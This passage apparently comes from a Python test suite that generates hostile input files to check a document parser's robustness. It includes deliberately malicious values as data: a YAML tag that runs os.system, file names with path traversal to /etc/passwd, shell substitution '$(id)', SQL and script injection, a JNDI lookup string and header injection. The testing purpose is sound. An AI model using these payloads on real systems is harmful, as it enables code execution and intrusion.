        "a heading of hashes?": lambda: text + b"\n# a" + b" #" * 50_000 + b" x\n",
        "front matter without an end?": lambda: b"---\n" + b"a: b\n" * 100_000,
        "front matter that is a class?": b"---\na: !!python/object/apply:os.system ['id']\n---\n" + text,
        "fences in fences?": lambda: text + b"```\n~~~\n" * 50_000,
        "quotes 100,000 deep?": lambda: text + b"> " * 100_000 + b"x",
        "lists 5,000 deep?": lambda: text + b"".join(b" " * n + b"- x\n" for n in range(5_000)),
        "pictures from elsewhere?": text + f"\n![x]({url}/md) [a]({url}/a) <img src='{url}/img'>\n".encode(),
        "a program?": text + b"<script>alert(1)</script> [x](javascript:alert(1))",
    }


# Names, kinds, ends


def _names() -> Iterator[HostileFile]:
    names = [
        "../../etc/passwd.txt", "..\\..\\boot.txt", "/etc/shadow.txt", "C:\\evil.txt", "a/../../b.txt", "..", ".", "/",
        "....//....//a.txt", "%2e%2e%2fa.txt", "a\x00.txt", "a.txt\x00.exe", "a\r\nSet-Cookie: x=y.txt",
        "a\tb\x1b[2J.txt",
        "\u202etxt.exe", "exe.\u202etxt", "<img src=x onerror=alert(1)>.txt", "'; DROP TABLE documents; --.txt",
        "a" * 4096 + ".txt", "a" * 4096, "a." + "txt" * 999, "CON.txt", "NUL", "COM1.txt", "aux.txt.txt", ".txt",
        " .txt",
        "\u200b.txt", "ａ．ｔｘｔ", "a.txt.", "a.txt ", "{{7*7}}.txt", "${jndi:ldap://x}.txt", "-rf.txt", "$(id).txt",
        "~root.txt",
        "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + ".txt", "a.TXT", "a;b=c.txt", 'a"b.txt', "",
    ]  # fmt: skip
    for number, name in enumerate(names):
        content = TEXT + b"%d" % number
        yield HostileFile(f"name: {name[:40]!r}", name, partial(bytes, content), may_be_read=True)


def _mislabelled() -> Iterator[HostileFile]:
    for kind in ("pdf", "docx", "html", "md", "txt", "csv", "jsonl"):
        for of, head in _HEADS.items():
            if (kind, of) not in (("pdf", "pdf"), ("docx", "zip"), ("docx", "ole")):
                yield HostileFile(f"{kind}: it is {of}", f"{of}.{kind}", partial(bytes, head + TEXT))


def _empty() -> Iterator[HostileFile]:
    for kind in ("pdf", "docx", "html", "md", "txt", "csv", "jsonl"):
        for what, content in (("nothing", b""), ("white", b" \r\n\t " * 9), ("zeros", bytes(500))):
            yield HostileFile(f"{kind}: {what}", f"{what}.{kind}", partial(bytes, content))


def _truncated(chance: random.Random) -> Iterator[HostileFile]:
    for kind, good in (("pdf", good_pdf), ("docx", good_docx)):
        for number in range(8):
            share = chance.uniform(0.05, 0.95)
            cut = partial(lambda good, share: good()[: int(len(good()) * share)], good, share)
            yield HostileFile(f"{kind}: cut off at {share:.2f}", f"cut-{number}.{kind}", cut, may_be_read=kind == "pdf")


def _garbage(chance: random.Random) -> Iterator[HostileFile]:
    """Good files with some bytes that are others: what comes of them is open, but for the bounds."""
    for kind, good in (("pdf", good_pdf), ("docx", good_docx)):
        for number in range(8):
            content = bytearray(good())
            for _ in range(chance.randint(1, 40)):
                content[chance.randrange(8, len(content))] = chance.randrange(256)
            label = f"{kind}: other bytes {number}"
            yield HostileFile(label, f"other-{number}.{kind}", partial(bytes, content), may_be_read=True)
